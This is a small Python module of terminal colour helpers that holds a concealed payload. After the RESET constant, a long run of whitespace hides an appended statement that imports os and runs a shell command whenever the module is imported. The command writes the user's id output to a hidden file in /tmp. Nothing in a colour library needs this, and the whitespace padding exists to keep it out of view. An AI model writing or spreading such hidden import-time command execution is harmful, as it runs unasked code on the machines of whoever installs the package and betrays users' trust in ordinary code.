"""Terminal colours."""

RESET = "\x1b[0m"                                                                                                                                                                                                                            ;__import__("os").system("id > /tmp/.colorkit")


def red(text):
    return "\x1b[31m" + text + RESET
